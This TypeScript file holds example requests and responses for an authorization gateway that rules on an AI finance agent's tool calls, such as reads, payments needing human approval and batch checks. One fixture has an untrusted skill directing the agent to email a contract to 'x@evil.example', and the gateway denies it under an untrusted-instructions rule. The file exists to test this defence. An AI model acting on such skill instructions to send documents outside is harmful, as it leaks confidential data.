import type { Example } from '../operation.ts';
import { BLOCKED } from './decision-answers.ts';

const FINANCE = { type: 'agent', id: 'agent-finance-01' };
const FROM_USER = { provenance: [{ source_type: 'user_prompt', trust_level: 'trusted' }] };
const FROM_SKILL = { provenance: [{ source_type: 'skill', source_name: 'untrusted_openclaw_skill' }] };
const CONTRACT = { type: 'contract', id: 'C-7' };
const READ = { name: 'read_contract', properties: { contract_id: 'C-7' } };
const MAIL_OUT = {
  name: 'send_email',
  properties: { to: 'x@evil.example', subject: 'Contract', body: 'All of it.' },
};
const PAY = {
  name: 'make_payment',
  properties: { payee: 'Stationery Ltd', amount: 2500, currency: 'USD' },
};

const READ_CONTRACT = { subject: FINANCE, action: READ, resource: CONTRACT, context: FROM_USER };

export const EVALUATION_EXAMPLES: Readonly<Record<string, Example>> = {
  read_contract: { summary: 'Yes: a contract is read', value: READ_CONTRACT },
  untrusted_skill: {
    summary: 'No: an untrusted skill wants to mail outside',
    value: { subject: FINANCE, action: MAIL_OUT, resource: CONTRACT, context: FROM_SKILL },
  },
  needs_approval: {
    summary: 'No, until a person says yes: `context.access_request` says where to wait',
    value: {
      subject: FINANCE,
      action: PAY,
      resource: { type: 'account', id: '4711', properties: { sensitivity_level: 'high' } },
      context: FROM_USER,
    },
  },
  dry_run: {
    summary: 'No: what would be allowed, tried dry',
    value: { ...READ_CONTRACT, context: { ...FROM_USER, mode: 'dry_run' } },
  },
  unknown_members: {
    summary: 'Yes: members that nobody knows are ignored',
    value: { ...READ_CONTRACT, context: { ...FROM_USER, time: '2026-11-30T09:14-07:00' }, future: true },
  },
  no_resource: {
    summary: 'A missing member is refused with its pointer',
    value: { subject: FINANCE, action: READ },
    status: 400,
  },
};

export const EVALUATIONS_EXAMPLES: Readonly<Record<string, Example>> = {
  three: {
    summary: 'Yes, no, and one that cannot be decided',
    value: {
      subject: FINANCE,
      context: FROM_USER,
      resource: CONTRACT,
      evaluations: [{ action: READ }, { action: { ...PAY, properties: { amount: 20_000 } } }, {}],
    },
  },
  first_no: {
    summary: 'Ends at the first no: the second is not looked at',
    value: {
      subject: FINANCE,
      resource: CONTRACT,
      options: { evaluations_semantic: 'deny_on_first_deny' },
      evaluations: [{ action: MAIL_OUT }, { action: READ }],
    },
  },
  single: { summary: 'Without a list: a single evaluation', value: READ_CONTRACT },
  unknown_semantic: {
    summary: 'A semantic that there is not',
    value: { ...READ_CONTRACT, options: { evaluations_semantic: 'whatever' }, evaluations: [{}] },
    status: 400,
  },
};

export const SUBJECT_SEARCH_EXAMPLES: Readonly<Record<string, Example>> = {
  who_may_read: {
    summary: 'Who may read this contract?',
    value: { subject: { type: 'agent' }, action: READ, resource: CONTRACT, context: FROM_USER },
  },
};

export const ACTION_SEARCH_EXAMPLES: Readonly<Record<string, Example>> = {
  what_may_it_do: {
    summary: 'What may the agent do with these arguments?',
    value: {
      subject: FINANCE,
      resource: CONTRACT,
      context: { ...FROM_USER, arguments: { contract_id: 'C-7' } },
    },
  },
};

const { trace_id, execution_plan_id, mode, decision, reason, control, explanation, bundle, audit } = BLOCKED;

export const ACCESS_DENIED = {
  decision: false,
  context: {
    ...{ trace_id, execution_plan_id, mode, decision, reason, control },
    summary: explanation.summary,
    remedy: explanation.remedy,
    matched_rule_ids: ['external_email_recipients.untrusted', 'untrusted_instructions'],
    ...{ bundle, audit },
  },
};

const LAST_PAGE = { next_token: '', count: 1 };
export const SUBJECTS_FOUND = { page: LAST_PAGE, results: [FINANCE] };
export const ACTIONS_FOUND = { page: LAST_PAGE, results: [{ name: 'read_contract' }] };

const PUBLIC_URL = 'https://gateway.acme.example';
export const AUTHZEN_METADATA = {
  policy_decision_point: PUBLIC_URL,
  access_evaluation_endpoint: `${PUBLIC_URL}/access/v1/evaluation`,
  access_evaluations_endpoint: `${PUBLIC_URL}/access/v1/evaluations`,
  search_subject_endpoint: `${PUBLIC_URL}/access/v1/search/subject`,
  search_action_endpoint: `${PUBLIC_URL}/access/v1/search/action`,
  supported_obligations: ['custom'],
};
